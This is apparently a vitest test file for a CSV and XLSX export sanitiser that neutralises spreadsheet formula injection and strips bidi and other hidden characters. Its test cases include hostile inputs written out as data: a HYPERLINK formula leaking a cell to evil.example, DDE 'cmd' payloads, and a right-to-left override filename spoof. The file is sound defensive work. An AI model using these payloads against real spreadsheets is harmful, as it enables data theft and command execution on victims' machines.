import { describe, expect, it } from 'vitest';
import { csvLine, safeCell, withoutHiddenCharacters, xlsxCell } from './csvSafe.js';

describe('safeCell', () => {
  it('prefixes text that would start a formula with an apostrophe', () => {
    expect(safeCell('=HYPERLINK("http://evil.example/?leak="&B2,"Click me")')).toBe(`'=HYPERLINK("http://evil.example/?leak="&B2,"Click me")`);
    expect(safeCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(safeCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(safeCell("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(safeCell('\t=1+1')).toBe("'\t=1+1");
    expect(safeCell('\r=1+1')).toBe("'\r=1+1");
    expect(safeCell('-3')).toBe("'-3");
  });

  it('leaves numbers as numbers and ordinary text alone', () => {
    expect(safeCell(-3)).toBe(-3);
    expect(safeCell(0.25)).toBe(0.25);
    expect(safeCell('Better lighting = fewer worries')).toBe('Better lighting = fewer worries');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
  });

  it('removes NUL, bidi overrides and isolates and direction marks, then checks for a formula', () => {
    expect(safeCell('a\u0000b\u202egnp.exe\u200b')).toBe('abgnp.exe\u200b');
    expect(withoutHiddenCharacters('\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200fok')).toBe('ok');
    expect(safeCell('\u202e=1+1')).toBe("'=1+1");
  });
});

describe('csvLine', () => {
  it('quote neutralised cells and cells with separators, quotes or line breaks', () => {
    expect(csvLine(['=1+1'])).toBe(`"'=1+1"\r\n`);
    expect(csvLine(['=HYPERLINK("x")'])).toBe(`"'=HYPERLINK(""x"")"\r\n`);
    expect(csvLine(['a,b'])).toBe('"a,b"\r\n');
    expect(csvLine(['line\nbreak'])).toBe('"line\nbreak"\r\n');
    expect(csvLine(['plain'])).toBe('plain\r\n');
    expect(csvLine([-3])).toBe('-3\r\n');
  });

  it('joins a record with commas and ends it with CRLF', () => {
    expect(csvLine(['R-1', '-2+3', 4, null, 'x'])).toBe(`R-1,"'-2+3",4,,x\r\n`);
  });
});

describe('xlsxCell', () => {
  it('keeps the true text and numbers, less the hidden characters', () => {
    expect(xlsxCell('=1+1')).toBe('=1+1');
    expect(xlsxCell('a\u0000b\u202egnp.exe')).toBe('abgnp.exe');
    expect(xlsxCell(-3)).toBe(-3);
    expect(xlsxCell(null)).toBe('');
  });
});
